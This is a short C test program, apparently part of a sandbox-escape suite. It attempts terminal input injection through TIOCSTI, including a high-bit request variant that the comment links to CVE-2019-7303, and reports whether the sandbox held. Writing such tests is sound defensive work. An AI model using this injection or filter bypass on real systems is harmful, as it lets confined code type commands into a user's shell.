/* Types a letter into the caller's terminal, which the caller's shell would read (ioctl_tty(2), TIOCSTI). */
#include <sys/ioctl.h>
#include "attack.h"

int main(void)
{
    if (!isatty(0))
        return BROKEN;
    /* The kernel looks at the low half of the request alone; a filter that compares all of it lets this pass (CVE-2019-7303). */
    if (ioctl(0, TIOCSTI, "\n") == 0 || syscall(SYS_ioctl, 0, TIOCSTI | 1UL << 32, "\n") == 0)
        return ESCAPED;
    return held("TIOCSTI");
}
